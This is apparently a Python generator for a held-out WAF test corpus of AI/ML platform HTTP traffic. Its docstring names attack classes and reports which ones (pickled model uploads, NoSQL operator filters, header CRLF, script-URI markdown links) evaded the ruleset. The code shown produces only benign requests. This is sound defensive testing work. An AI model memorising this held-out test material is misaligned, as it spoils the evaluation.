#!/usr/bin/env python3
"""Held-out HTTP test corpus for the WAF: AI/ML platform traffic ("aiml" set).

What it is
    A generator of JSONL request cases modelled on AI/ML platforms running in
    Kubernetes: OpenAI-compatible LLM gateways/servers (vLLM, Ollama, LiteLLM),
    agent frameworks with tool calls, RAG ingestion, vector databases (Qdrant,
    Weaviate GraphQL, Milvus, Chroma), model serving (KServe v2, Triton,
    TorchServe), experiment tracking/registries (MLflow, HF-hub-style uploads),
    notebooks and labeling tools (Jupyter, Label Studio), feature stores and
    prompt management.

    "benign" mode prints ordinary traffic (expect "pass") plus "dev-content":
    prompts and RAG documents that legitimately contain code (SQL, shell,
    Python, HTML/JS, Jinja, stack traces, YAML, curl) being asked about.
    "attacks" mode prints attacks aimed at these APIs (expect "detect").
    Prompt-injection text is deliberately NOT an attack class here.

    Written blind: without looking at the ruleset, its tests, or the other
    corpus generators, so it acts as a held-out set.

How to run
    python3 scripts/corpus-aiml.py attacks > rulesets/tests/data/aiml-attacks.jsonl
    python3 scripts/corpus-aiml.py benign  > rulesets/tests/data/aiml-benign.jsonl

    Output is deterministic (fixed seed per mode). Stdlib only.

Line format
    {"id", "set": "aiml", "category", "expect", "method", "uri", "version",
     "headers": [[name, value], ...], "body"?}

First sight (2026-12-05, palisade-rules at 0cb19ae)
---------------------------------------------------
Counts: 276 attacks (ssrf 38, rce 38, sqli 35, lfi 34, ssti 23, xss 22,
nosqli 21, java 15, xxe 10, crlf 9, ldapi 8, rfi 6, php 6, generic 6,
protocol 5), 579 benign (511 ordinary + 68 dev-content).

PL1 (threshold 5, built-in rules):
  attacks blocked   260/276 = 94.2 %
  benign blocked    0/511 ordinary, 46/68 dev-content (prompts about code)

Attacks passed at PL1 (16): pickles in uploaded model files (a text pickle
in a multipart file, a PyTorch zip whose GLOBAL opcode follows a letter),
`$ne`/`$gt`/`$regex` filters in RAG and Chroma queries, line breaks in
LiteLLM's forwarded header maps, base64 model cards with javascript: and
data:text/html markdown links, fetches of loopback dev ports and a
cluster-internal service.

After the class fixes of the same session (generic-153 reads uploaded
files, generic-158's GLOBAL after any opcode, nosqli-116 match-everything
`$regex`, crlf-106 headers maps, xss-070 markdown links to script URIs):
attacks 269/276; benign 0/511, dev-content 46/68, and 19/68 with
proxy/profiles/llm-inference.yaml (attacks 258/276 with it: tool calls in a
chat history are not run by the inference server).
"""
import base64
import json
import random
import sys
from urllib.parse import quote, urlencode

SET = "aiml"
R = random.Random(0)
OUT = []
_COUNTERS = {}

# ---------------------------------------------------------------- helpers ---

HOSTS = {
    "gw": ["llm-gateway.ml.svc.cluster.local", "api.llm.acme.internal", "litellm.platform.example.com"],
    "vllm": ["vllm-llama3.inference.svc:8000", "vllm.ml.example.com"],
    "ollama": ["ollama.ai.svc:11434", "ollama.lab.example.org"],
    "agent": ["agents.acme.io", "agent-runtime.ml.svc.cluster.local"],
    "rag": ["rag-ingest.ml.example.com", "docs-indexer.platform.svc"],
    "qdrant": ["qdrant.vector.svc:6333", "qdrant.acme.cloud"],
    "weaviate": ["weaviate.vector.svc:8080", "weaviate.example.net"],
    "milvus": ["milvus-proxy.vector.svc:19530", "milvus.ml.example.com"],
    "chroma": ["chroma.vector.svc:8000", "chroma.lab.example.org"],
    "kserve": ["sklearn-iris.kserve-test.example.com", "llm-classifier.models.svc.cluster.local"],
    "triton": ["triton.inference.svc:8000", "triton.ml.example.com"],
    "torchserve": ["torchserve.models.svc:8080", "torchserve-mgmt.models.svc:8081"],
    "mlflow": ["mlflow.ml.example.com", "mlflow-tracking.mlops.svc:5000"],
    "hf": ["hub.models.acme.internal", "hf-mirror.ml.example.com"],
    "jupyter": ["jupyter.ml.example.com", "notebooks.acme.io"],
    "labelstudio": ["label.acme.io", "label-studio.annotation.svc:8080"],
    "feast": ["feast-feature-server.ml.svc:6566", "features.ml.example.com"],
    "prompts": ["prompts.ml.example.com", "promptlayer.acme.internal"],
}

UAS = {
    "openai": ["OpenAI/Python 1.35.10", "OpenAI/Python 1.51.2", "OpenAI/Python 1.58.1", "OpenAI/NodeJS/4.67.3"],
    "requests": ["python-requests/2.31.0", "python-requests/2.32.3"],
    "httpx": ["python-httpx/0.27.0", "python-httpx/0.27.2"],
    "langchain": ["langchain-openai/0.1.22 OpenAI/Python 1.40.0", "python-httpx/0.27.0"],
    "browser": [
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36",
        "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Safari/605.1.15",
        "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
    ],
    "mlflow": ["mlflow-python-client/2.14.1", "mlflow-python-client/2.16.0"],
    "hf": ["huggingface_hub/0.24.5; python/3.11.9; torch/2.3.1", "huggingface_hub/0.23.4; python/3.10.14"],
    "qdrant": ["qdrant-client/1.10.1 python/3.11.9", "python-httpx/0.27.0"],
    "curl": ["curl/8.5.0", "curl/7.88.1"],
    "go": ["Go-http-client/1.1", "Go-http-client/2.0"],
}

ALNUM = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789"
HEX = "0123456789abcdef"


def rs(n, alphabet=ALNUM):
    return "".join(R.choice(alphabet) for _ in range(n))


def rid():
    return "req_" + rs(24, HEX)


def uuid4():
    h = rs(32, HEX)
    return f"{h[:8]}-{h[8:12]}-4{h[13:16]}-a{h[17:20]}-{h[20:]}"


def bearer(kind="openai"):
    if kind == "openai":
        return "Bearer sk-" + R.choice(["proj-", "", "litellm-"]) + rs(40)
    if kind == "hf":
        return "Bearer hf_" + rs(34)
    return "Bearer eyJhbGciOiJSUzI1NiIsInR5cCI6IkpXVCJ9." + rs(60) + "." + rs(43)


def headers(host_kind, ua_kind="openai", ctype="application/json", auth="openai",
            accept="application/json", extra=None, org=False):
    h = [["Host", R.choice(HOSTS[host_kind])], ["User-Agent", R.choice(UAS[ua_kind])]]
    if accept:
        h.append(["Accept", accept])
    if ctype:
        h.append(["Content-Type", ctype])
    if auth:
        h.append(["Authorization", bearer(auth)])
    if ua_kind == "openai":
        h.append(["X-Stainless-Lang", "python"])
        h.append(["X-Stainless-Retry-Count", "0"])
    if org:
        h.append(["OpenAI-Organization", "org-" + rs(24)])
    if R.random() < 0.6:
        h.append([R.choice(["x-request-id", "X-Request-ID"]), uuid4()])
    for e in extra or []:
        h.append(list(e))
    return h


def emit(category, sub, method, uri, hdrs, body=None, expect=None, group=None):
    """Append one case. group overrides the id's middle segment (benign / dev-content)."""
    if expect is None:
        expect = "pass" if category == "benign" else "detect"
    if group is None:
        group = "benign" if category == "benign" else category
    key = f"{SET}/{group}/{sub}"
    n = _COUNTERS.get(key, 0) + 1
    _COUNTERS[key] = n
    rec = {"id": f"{key}/{n}", "set": SET, "category": category, "expect": expect,
           "method": method, "uri": uri, "version": "HTTP/1.1", "headers": hdrs}
    if body is not None:
        if not isinstance(body, str):
            body = json.dumps(body, ensure_ascii=False)
        rec["body"] = body
    OUT.append(rec)


def q(d):
    """Query string as a client (requests/httpx) would encode it."""
    return urlencode(d, quote_via=quote, safe="")


def multipart(fields, files):
    """fields: [(name, value)], files: [(name, filename, ctype, content)] -> (ctype, body)."""
    b = "----WebKitFormBoundary" + rs(16)
    parts = []
    for name, val in fields:
        parts.append(f'--{b}\r\nContent-Disposition: form-data; name="{name}"\r\n\r\n{val}\r\n')
    for name, fn, ct, content in files:
        parts.append(f'--{b}\r\nContent-Disposition: form-data; name="{name}"; filename="{fn}"\r\n'
                     f'Content-Type: {ct}\r\n\r\n{content}\r\n')
    parts.append(f"--{b}--\r\n")
    return f"multipart/form-data; boundary={b}", "".join(parts)


MODELS = ["gpt-4o-mini", "gpt-4o", "meta-llama/Meta-Llama-3.1-8B-Instruct", "llama3.1:8b",
          "mistralai/Mistral-7B-Instruct-v0.3", "qwen2.5:14b", "claude-3-5-sonnet", "gemma2:9b",
          "Qwen/Qwen2.5-72B-Instruct", "azure/gpt-4o-2024-08-06"]
EMB_MODELS = ["text-embedding-3-small", "text-embedding-3-large", "BAAI/bge-m3",
              "nomic-embed-text", "intfloat/multilingual-e5-large"]

# ------------------------------------------------------------ benign text ---

SYSTEM_PROMPTS = [
    "You are a helpful assistant for Acme Corp's internal IT helpdesk. Answer concisely.",
    "You are a customer support agent. Be polite, and never promise refunds without a ticket number.",
    "Du bist ein hilfreicher Assistent. Antworte immer auf Deutsch und in kurzen Sätzen.",
    "Tu es un assistant juridique. Cite les articles du Code civil quand c'est pertinent.",
    "Eres un asistente que resume reuniones en viñetas claras.",
    "あなたは丁寧な日本語で答えるアシスタントです。",
    "You are a senior data analyst. When unsure, say so and ask a clarifying question.",
    "Answer using only the context provided below. If the answer is not in the context, say \"I don't know\".",
    "You are a travel planner. Output a day-by-day itinerary as a numbered list.",
    "You classify support tickets into one of: billing, outage, account, feature_request, other. Reply with the label only.",
]

USER_PROMPTS = [
    "What's the difference between a mutual fund and an ETF?",
    "Summarize the following meeting notes in 5 bullet points: We agreed to move the launch to March 14. Marketing needs final copy by Feb 20. Dana will own the pricing page and Luis will coordinate with legal on the terms update.",
    "Write a polite email to my landlord asking when the heating will be repaired. It has been broken since Monday.",
    "Can you explain how photosynthesis works to a 10-year-old?",
    "Translate to French: 'Our office will be closed on Friday for the public holiday.'",
    "Wie kann ich meine Steuererklärung online einreichen? Ich wohne in Bayern.",
    "¿Cuáles son los síntomas más comunes de la deshidratación?",
    "東京で雨の日に楽しめる観光スポットを教えてください。",
    "Give me three ideas for a 7-year-old's birthday party on a budget.",
    "Rewrite this to sound more professional: hey, the report's gonna be late, sorry, stuff came up.",
    "What are the pros and cons of remote work for junior engineers?",
    "Draft a LinkedIn post announcing that our team shipped version 2.0 of the mobile app.",
    "How many tablespoons are in a cup?",
    "Résume ce texte en deux phrases : La réunion du conseil a porté sur le budget 2025, la rénovation de la médiathèque et le nouveau plan de mobilité douce.",
    "Explain the difference between precision and recall with a medical test example.",
    "Proponha um cardápio semanal vegetariano para uma família de quatro pessoas.",
    "What were the main causes of the French Revolution? Keep it under 200 words.",
    "I have a job interview for a product manager role tomorrow. What questions should I prepare for?",
    "Classify this ticket: 'I was charged twice for my subscription this month.'",
    "Напиши короткое поздравление коллеге с днём рождения.",
    "Compare PostgreSQL and MySQL for a small e-commerce site, at a high level.",
    "Give me a packing list for a 4-day hiking trip in the Alps in September.",
    "What is retrieval-augmented generation and when should I use it instead of fine-tuning?",
    "Please proofread: Their going to the conference next week and will present there findings.",
    "Write a haiku about autumn rain in Kyoto.",
    "Which is healthier, brown rice or quinoa? Short answer please.",
    "我想学习机器学习，应该从哪些课程开始？",
    "Summarize the key obligations of a data processor under GDPR article 28.",
    "Explain what a p-value is without using jargon.",
    "Turn these notes into a status update: - infra migration 80% done - blocked on DNS cutover - next week: load tests",
    "What is the capital of Australia and why isn't it Sydney?",
    "Write a short product description for a bamboo cutting board, 50 words.",
    "Can you suggest a name for a bakery that specializes in sourdough?",
    "Help me plan a study schedule for the AWS Solutions Architect exam in 6 weeks.",
    "Quali sono le regole principali del calcio a 5?",
    "My tomato plants have yellow leaves at the bottom. What could be wrong?",
    "Explain the 50/30/20 budgeting rule with an example for a salary of $4,000/month.",
    "Make this sentence shorter: In light of the fact that the meeting was postponed, we will need to reschedule.",
    "List five good questions to ask at the end of a job interview.",
    "Write a friendly reminder that the quarterly survey closes on Friday at 5pm.",
]

ASSISTANT_REPLIES = [
    "Sure! Here are five bullet points summarizing the notes:\n1. Launch moved to March 14.\n2. Final copy due Feb 20.\n3. Dana owns the pricing page.\n4. Luis coordinates with legal.\n5. Terms update pending.",
    "An ETF trades on an exchange throughout the day like a stock, while a mutual fund is priced once per day at its net asset value.",
    "Bien sûr, voici une traduction : « Nos bureaux seront fermés vendredi pour le jour férié. »",
    "Photosynthesis is how plants make food: they take in sunlight, water and carbon dioxide and turn them into sugar and oxygen.",
    "I don't know, the context doesn't mention the refund policy for annual plans.",
    "billing",
    "Here is a more professional version: \"The report will be delayed due to unforeseen circumstances. I apologize for the inconvenience.\"",
]

DOC_TEXTS = [
    "Acme Employee Handbook, section 4.2: Employees accrue 1.75 days of paid leave per month. Unused leave up to 5 days may be carried over to the next calendar year.",
    "Release notes 3.8.0 — Added SSO support for Okta and Azure AD. Fixed an issue where CSV exports truncated rows over 10,000. Improved dashboard load times by 40%.",
    "Die Rückgabefrist beträgt 30 Tage ab Erhalt der Ware. Bitte verwenden Sie das beiliegende Rücksendeetikett.",
    "Q3 revenue grew 12% year over year to $48.2M, driven by enterprise subscriptions. Gross margin was 71%.",
    "Pour réinitialiser votre mot de passe, cliquez sur « Mot de passe oublié » sur la page de connexion et suivez les instructions envoyées par e-mail.",
    "The warranty covers manufacturing defects for 24 months from the date of purchase. It does not cover damage from drops, water, or unauthorized repairs.",
    "Onboarding checklist: 1) Request laptop via the IT portal. 2) Complete security training within 7 days. 3) Join the #new-hires Slack channel.",
    "El horario de atención al cliente es de lunes a viernes, de 9:00 a 18:00 (hora de Madrid).",
    "Incident postmortem 2024-06-11: A misconfigured load balancer health check caused 23 minutes of partial downtime in eu-west-1. Action items: add config validation, alert on 5xx ratio.",
    "Product FAQ: The Pro plan includes up to 25 seats, 1 TB storage, and priority support with a 4-hour response SLA.",
    "Recipe: Whisk 3 eggs with 200 ml milk, add 120 g flour and a pinch of salt. Rest 30 minutes, then cook thin crêpes in a buttered pan.",
    "製品保証：購入日から1年間、通常使用における故障を無償で修理いたします。",
]

TENANTS = ["acme", "globex", "initech", "umbrella", "hooli", "stark-industries", "wayne-ent"]


def chat_body(model=None, n_turns=None, stream=False, system=True, **kw):
    msgs = []
    if system and R.random() < 0.7:
        msgs.append({"role": "system", "content": R.choice(SYSTEM_PROMPTS)})
    for i in range(n_turns or R.choice([1, 1, 1, 2, 3])):
        if i:
            msgs.append({"role": "assistant", "content": R.choice(ASSISTANT_REPLIES)})
        msgs.append({"role": "user", "content": R.choice(USER_PROMPTS)})
    b = {"model": model or R.choice(MODELS), "messages": msgs}
    if R.random() < 0.6:
        b["temperature"] = R.choice([0, 0.2, 0.7, 1.0])
    if R.random() < 0.4:
        b["max_tokens"] = R.choice([256, 512, 1024, 4096])
    if stream:
        b["stream"] = True
        if R.random() < 0.5:
            b["stream_options"] = {"include_usage": True}
    b.update(kw)
    return b


def chat_headers(stream=False, **kw):
    ua = R.choice(["openai", "openai", "langchain", "httpx", "requests"])
    return headers("gw", ua, accept="text/event-stream" if stream else "application/json",
                   org=R.random() < 0.3, **kw)

# ------------------------------------------------------ benign generators ---

TOOLS = [
    {"type": "function", "function": {
        "name": "get_weather", "description": "Get the current weather for a city",
        "parameters": {"type": "object", "properties": {
            "city": {"type": "string", "description": "City name, e.g. Paris"},
            "unit": {"type": "string", "enum": ["celsius", "fahrenheit"]}},
            "required": ["city"], "additionalProperties": False}}},
    {"type": "function", "function": {
        "name": "search_orders", "description": "Look up a customer's recent orders",
        "parameters": {"type": "object", "properties": {
            "customer_id": {"type": "string", "pattern": "^C[0-9]{6}$"},
            "status": {"type": "string", "enum": ["open", "shipped", "cancelled"]},
            "limit": {"type": "integer", "minimum": 1, "maximum": 50}},
            "required": ["customer_id"]}}},
    {"type": "function", "function": {
        "name": "create_calendar_event", "description": "Create a calendar event",
        "parameters": {"type": "object", "properties": {
            "title": {"type": "string"}, "start": {"type": "string", "format": "date-time"},
            "duration_minutes": {"type": "integer"},
            "attendees": {"type": "array", "items": {"type": "string", "format": "email"}}},
            "required": ["title", "start"]}}},
    {"type": "function", "function": {
        "name": "fetch_url", "description": "Fetch a public web page and return its text",
        "parameters": {"type": "object", "properties": {"url": {"type": "string", "format": "uri"}},
                       "required": ["url"]}}},
    {"type": "function", "function": {
        "name": "query_sales_db", "description": "Run a read-only analytics query by metric and region",
        "parameters": {"type": "object", "properties": {
            "metric": {"type": "string", "enum": ["revenue", "units", "margin"]},
            "region": {"type": "string"}, "quarter": {"type": "string", "pattern": "^20[0-9]{2}-Q[1-4]$"}},
            "required": ["metric"]}}},
]

BENIGN_TOOL_ARGS = [
    ("get_weather", {"city": "Lisbon", "unit": "celsius"}),
    ("get_weather", {"city": "São Paulo"}),
    ("search_orders", {"customer_id": "C004211", "status": "shipped", "limit": 5}),
    ("create_calendar_event", {"title": "1:1 with Priya", "start": "2024-10-03T15:00:00+02:00",
                               "duration_minutes": 30, "attendees": ["priya@acme.io"]}),
    ("fetch_url", {"url": "https://en.wikipedia.org/wiki/Transformer_(deep_learning_architecture)"}),
    ("fetch_url", {"url": "https://docs.python.org/3/library/asyncio-task.html#running-tasks-concurrently"}),
    ("query_sales_db", {"metric": "revenue", "region": "EMEA", "quarter": "2024-Q2"}),
    ("query_sales_db", {"metric": "margin", "region": "North America"}),
    ("create_calendar_event", {"title": "Sprint review — Q&A", "start": "2024-11-15T10:00:00Z",
                               "attendees": ["team-ml@acme.io", "j.doe@acme.io"]}),
]


def gen_benign_chat():
    for _ in range(70):
        stream = R.random() < 0.3
        path = R.choice(["/v1/chat/completions"] * 4 + ["/chat/completions", "/openai/v1/chat/completions"])
        emit("benign", "chat-completion", "POST", path, chat_headers(stream), chat_body(stream=stream))
    # long-context summaries
    for _ in range(12):
        ctx = "\n\n".join(R.sample(DOC_TEXTS, 6))
        b = chat_body(system=False)
        b["messages"] = [{"role": "system", "content": SYSTEM_PROMPTS[7]},
                         {"role": "user", "content": f"Context:\n{ctx}\n\nQuestion: {R.choice(['What is the return window?', 'Summarize the key points.', 'How much paid leave do employees get?', 'What changed in 3.8.0?'])}"}]
        emit("benign", "long-context", "POST", "/v1/chat/completions", chat_headers(), b)
    # structured output / json mode
    for _ in range(8):
        b = chat_body()
        b["response_format"] = R.choice([
            {"type": "json_object"},
            {"type": "json_schema", "json_schema": {"name": "ticket", "strict": True, "schema": {
                "type": "object", "properties": {"label": {"type": "string"}, "confidence": {"type": "number"}},
                "required": ["label", "confidence"], "additionalProperties": False}}}])
        emit("benign", "structured-output", "POST", "/v1/chat/completions", chat_headers(), b)
    # vision: base64 image
    for _ in range(6):
        img = base64.b64encode(bytes(R.getrandbits(8) for _ in range(180))).decode()
        b = {"model": "gpt-4o", "messages": [{"role": "user", "content": [
            {"type": "text", "text": R.choice(["What is in this picture?", "Read the receipt total.", "Describe this chart."])},
            {"type": "image_url", "image_url": {"url": "data:image/png;base64," + img, "detail": "low"}}]}]}
        emit("benign", "vision", "POST", "/v1/chat/completions", chat_headers(), b)


def gen_benign_completions():
    for _ in range(20):
        prompt = R.choice(USER_PROMPTS)
        b = {"model": R.choice(MODELS[2:6]), "prompt": prompt, "max_tokens": R.choice([64, 128, 256]),
             "temperature": R.choice([0.0, 0.5, 0.8])}
        if R.random() < 0.3:
            b["stop"] = ["\n\n", "###"]
        if R.random() < 0.3:
            b["logprobs"] = 5
        host = R.choice(["vllm", "gw"])
        emit("benign", "completion", "POST", "/v1/completions", headers(host, R.choice(["openai", "requests"])), b)
    # ollama native
    for _ in range(14):
        kind = R.choice(["generate", "chat", "embed", "show", "pull"])
        if kind == "generate":
            b = {"model": R.choice(["llama3.1:8b", "mistral:7b", "phi3:mini"]), "prompt": R.choice(USER_PROMPTS),
                 "stream": R.choice([True, False]), "options": {"num_ctx": 8192, "temperature": 0.3}}
        elif kind == "chat":
            b = {"model": "qwen2.5:14b", "messages": chat_body()["messages"], "stream": False, "keep_alive": "5m"}
        elif kind == "embed":
            b = {"model": "nomic-embed-text", "input": R.sample(USER_PROMPTS, 3)}
        elif kind == "show":
            b = {"model": R.choice(["llama3.1:8b", "gemma2:9b"])}
        else:
            b = {"model": R.choice(["llama3.2:3b", "nomic-embed-text:latest"]), "stream": True}
        emit("benign", "ollama", "POST", "/api/" + kind, headers("ollama", R.choice(["httpx", "go", "curl"]), auth=None), b)
    for p in ["/v1/models", "/api/tags", "/health", "/v1/models/meta-llama%2FMeta-Llama-3.1-8B-Instruct", "/metrics", "/api/ps"]:
        emit("benign", "model-list", "GET", p, headers(R.choice(["gw", "vllm", "ollama"]), "requests", ctype=None))


def gen_benign_embeddings():
    for _ in range(25):
        n = R.randint(1, 8)
        inp = R.sample(DOC_TEXTS + USER_PROMPTS, n)
        b = {"model": R.choice(EMB_MODELS), "input": inp if n > 1 or R.random() < 0.5 else inp[0]}
        if R.random() < 0.4:
            b["encoding_format"] = R.choice(["float", "base64"])
        if R.random() < 0.2:
            b["dimensions"] = R.choice([256, 512, 1024])
        emit("benign", "embeddings", "POST", "/v1/embeddings", headers("gw", R.choice(["openai", "langchain"])), b)
    # token-id input
    for _ in range(4):
        b = {"model": "text-embedding-3-small", "input": [[R.randint(10, 100000) for _ in range(R.randint(8, 30))]]}
        emit("benign", "embeddings", "POST", "/v1/embeddings", headers("gw"), b)


def gen_benign_tools():
    for _ in range(25):
        name, args = R.choice(BENIGN_TOOL_ARGS)
        call_id = "call_" + rs(24)
        msgs = [{"role": "user", "content": R.choice(USER_PROMPTS)},
                {"role": "assistant", "content": None, "tool_calls": [
                    {"id": call_id, "type": "function",
                     "function": {"name": name, "arguments": json.dumps(args, ensure_ascii=False)}}]},
                {"role": "tool", "tool_call_id": call_id,
                 "content": json.dumps(R.choice([{"temp_c": 18.5, "conditions": "partly cloudy"},
                                                 {"orders": [{"id": "O-99812", "status": "shipped"}]},
                                                 {"ok": True, "event_id": "evt_" + rs(10)},
                                                 {"title": "Transformer", "text": "A transformer is a deep learning architecture..."}]))}]
        b = {"model": R.choice(MODELS[:3]), "messages": msgs, "tools": R.sample(TOOLS, R.randint(1, 4)),
             "tool_choice": R.choice(["auto", "required", {"type": "function", "function": {"name": name}}])}
        emit("benign", "tool-call", "POST", "/v1/chat/completions", chat_headers(), b)
    # agent runtime direct tool invocation
    for _ in range(12):
        name, args = R.choice(BENIGN_TOOL_ARGS)
        b = {"run_id": "run_" + rs(12), "tool": name, "arguments": json.dumps(args)}
        emit("benign", "agent-tool", "POST", f"/api/v1/agents/{rs(8).lower()}/tools/{name}/invoke",
             headers("agent", "httpx", auth="jwt"), b)
    # assistants-style tool output submission
    for _ in range(5):
        b = {"tool_outputs": [{"tool_call_id": "call_" + rs(24), "output": json.dumps({"temperature": 21, "unit": "C"})}]}
        emit("benign", "agent-tool", "POST", f"/v1/threads/thread_{rs(24)}/runs/run_{rs(24)}/submit_tool_outputs",
             headers("gw", extra=[["OpenAI-Beta", "assistants=v2"]]), b)


def vec(n):
    return [round(R.uniform(-1, 1), 4) for _ in range(n)]


def gen_benign_rag():
    for _ in range(18):
        docs = []
        for _ in range(R.randint(1, 4)):
            docs.append({"id": uuid4(), "text": R.choice(DOC_TEXTS),
                         "metadata": {"source": R.choice(["confluence", "sharepoint", "gdrive", "s3"]),
                                      "tenant": R.choice(TENANTS), "lang": R.choice(["en", "de", "fr", "es", "ja"]),
                                      "title": R.choice(["Handbook", "Release notes 3.8", "FAQ", "Postmortem 2024-06-11"]),
                                      "created_at": "2024-0%d-1%dT08:00:00Z" % (R.randint(1, 9), R.randint(0, 9))}})
        b = {"collection": R.choice(["kb-prod", "support-articles", "hr-docs"]), "documents": docs,
             "chunking": {"strategy": R.choice(["recursive", "token", "semantic"]), "chunk_size": 512, "overlap": 64}}
        emit("benign", "rag-ingest", "POST", "/v1/ingest/documents", headers("rag", "httpx", auth="jwt"), b)
    for _ in range(10):
        b = {"source_url": R.choice(["https://www.acme.io/blog/q3-update", "https://docs.example.com/guide/install.html",
                                     "s3://acme-kb/handbook/2024/handbook.pdf", "https://arxiv.org/pdf/1706.03762",
                                     "gs://ml-datasets/contracts/msa-2023.docx"]),
             "loader": R.choice(["web", "pdf", "unstructured", "docx"]), "tenant": R.choice(TENANTS),
             "metadata": {"tags": ["public", "v2"], "owner": "kb-team"}}
        emit("benign", "rag-loader", "POST", "/v1/ingest/url", headers("rag", "requests", auth="jwt"), b)
    for _ in range(10):
        csv = "question,answer\n" + "\n".join(f"\"{R.choice(USER_PROMPTS)[:60]}\",\"{R.choice(ASSISTANT_REPLIES)[:60]}\"" for _ in range(4))
        ct, body = multipart([("collection", "faq"), ("tenant", R.choice(TENANTS))],
                             [("file", R.choice(["faq.csv", "faq-2024-q3.csv"]), "text/csv", csv)])
        emit("benign", "rag-upload", "POST", "/v1/ingest/files", headers("rag", "browser", ctype=ct, auth="jwt"), body)
    for _ in range(8):
        txt = R.choice(DOC_TEXTS) + "\n\n" + R.choice(DOC_TEXTS)
        ct, body = multipart([("metadata", json.dumps({"tenant": R.choice(TENANTS), "source": "upload"}))],
                             [("file", R.choice(["notes.md", "policy.txt", "readme.md"]), R.choice(["text/markdown", "text/plain"]), txt)])
        emit("benign", "rag-upload", "POST", "/v1/ingest/files", headers("rag", "requests", ctype=ct, auth="jwt"), body)
    for _ in range(12):
        params = {"q": R.choice(USER_PROMPTS)[:80], "top_k": R.choice([3, 5, 10]), "tenant": R.choice(TENANTS)}
        if R.random() < 0.5:
            params["filter"] = json.dumps({"lang": R.choice(["en", "de"]), "source": "confluence"})
        emit("benign", "rag-query", "GET", "/v1/retrieve?" + q(params), headers("rag", "httpx", ctype=None, auth="jwt"))


def gen_benign_vector():
    # Qdrant
    for _ in range(15):
        col = R.choice(["kb_chunks", "products", "support_tickets"])
        t = R.choice(["search", "upsert", "scroll", "query"])
        flt = {"must": [{"key": "tenant", "match": {"value": R.choice(TENANTS)}}]}
        if R.random() < 0.5:
            flt["must"].append({"key": "year", "range": {"gte": 2022, "lte": 2024}})
        if R.random() < 0.3:
            flt["must_not"] = [{"key": "status", "match": {"any": ["archived", "deleted"]}}]
        if t == "search":
            b = {"vector": vec(R.choice([8, 16, 32])), "filter": flt, "limit": 10, "with_payload": True}
            path = f"/collections/{col}/points/search"
        elif t == "upsert":
            b = {"points": [{"id": R.randint(1, 10**6), "vector": vec(16),
                             "payload": {"tenant": R.choice(TENANTS), "text": R.choice(DOC_TEXTS), "year": 2024}} for _ in range(3)]}
            path = f"/collections/{col}/points?wait=true"
        elif t == "scroll":
            b = {"filter": flt, "limit": 100, "with_payload": ["text", "tenant"], "with_vector": False}
            path = f"/collections/{col}/points/scroll"
        else:
            b = {"query": vec(16), "filter": flt, "limit": 5, "params": {"hnsw_ef": 128}}
            path = f"/collections/{col}/points/query"
        emit("benign", "qdrant", "POST" if t != "upsert" else "PUT", path,
             headers("qdrant", "qdrant", auth=None, extra=[["api-key", rs(32)]]), b)
    # Weaviate GraphQL
    for _ in range(12):
        cls = R.choice(["Article", "Document", "Product"])
        tenant = R.choice(TENANTS)
        qq = R.choice([
            '{ Get { %s(nearText: {concepts: ["refund policy"]}, limit: 5, where: {path: ["tenant"], operator: Equal, valueText: "%s"}) { title body _additional { distance } } } }' % (cls, tenant),
            '{ Get { %s(hybrid: {query: "vacation carry over", alpha: 0.5}, limit: 3) { title _additional { score } } } }' % cls,
            '{ Aggregate { %s(where: {path: ["lang"], operator: Equal, valueText: "de"}) { meta { count } } } }' % cls,
            '{ Get { %s(bm25: {query: "SSO Okta"}, limit: 10) { title url } } }' % cls,
        ])
        emit("benign", "weaviate", "POST", "/v1/graphql", headers("weaviate", "requests", auth="openai"), {"query": qq})
    for _ in range(5):
        b = {"class": "Document", "properties": {"title": "FAQ", "body": R.choice(DOC_TEXTS), "tenant": R.choice(TENANTS)}}
        emit("benign", "weaviate", "POST", "/v1/objects", headers("weaviate", "requests"), b)
    # Milvus REST v2
    for _ in range(10):
        t = R.choice(["search", "query", "insert"])
        if t == "search":
            b = {"collectionName": "kb", "data": [vec(16)], "annsField": "embedding", "limit": 5,
                 "filter": R.choice(['tenant == "%s"' % R.choice(TENANTS), 'year >= 2023 and lang in ["en", "fr"]']),
                 "outputFields": ["text", "source"]}
        elif t == "query":
            b = {"collectionName": "kb", "filter": 'doc_id in [101, 102, 103]', "outputFields": ["text"], "limit": 50}
        else:
            b = {"collectionName": "kb", "data": [{"embedding": vec(16), "text": R.choice(DOC_TEXTS), "tenant": "acme"}]}
        emit("benign", "milvus", "POST", f"/v2/vectordb/entities/{t}", headers("milvus", "requests"), b)
    # Chroma
    for _ in range(10):
        cid = uuid4()
        t = R.choice(["query", "add", "get"])
        if t == "query":
            b = {"query_embeddings": [vec(12)], "n_results": 5, "where": {"tenant": {"$eq": R.choice(TENANTS)}},
                 "include": ["documents", "metadatas", "distances"]}
            if R.random() < 0.5:
                b["where"] = {"$and": [{"tenant": {"$eq": "acme"}}, {"year": {"$gte": 2023}}]}
            if R.random() < 0.3:
                b["where_document"] = {"$contains": "warranty"}
        elif t == "add":
            b = {"ids": [rs(8) for _ in range(2)], "embeddings": [vec(12), vec(12)],
                 "documents": R.sample(DOC_TEXTS, 2), "metadatas": [{"tenant": "acme"}, {"tenant": "globex"}]}
        else:
            b = {"where": {"source": {"$in": ["confluence", "gdrive"]}}, "limit": 20, "include": ["metadatas"]}
        emit("benign", "chroma", "POST", f"/api/v1/collections/{cid}/{t}", headers("chroma", "httpx", auth=None), b)


def gen_benign_serving():
    # KServe v2 / Triton
    for _ in range(16):
        model = R.choice(["sklearn-iris", "bert-classifier", "resnet50", "fraud-xgb", "densenet_onnx"])
        shape = R.choice([[1, 4], [2, 4], [1, 8]])
        data = [round(R.uniform(0, 10), 3) for _ in range(shape[0] * shape[1])]
        b = {"id": uuid4(), "inputs": [{"name": R.choice(["input-0", "INPUT__0", "predict"]), "shape": shape,
                                         "datatype": R.choice(["FP32", "FP64"]), "data": data}]}
        if R.random() < 0.4:
            b["outputs"] = [{"name": "output-0", "parameters": {"classification": 3}}]
        host = R.choice(["kserve", "triton"])
        emit("benign", "kserve-v2", "POST", f"/v2/models/{model}/infer", headers(host, "requests", auth="jwt"), b)
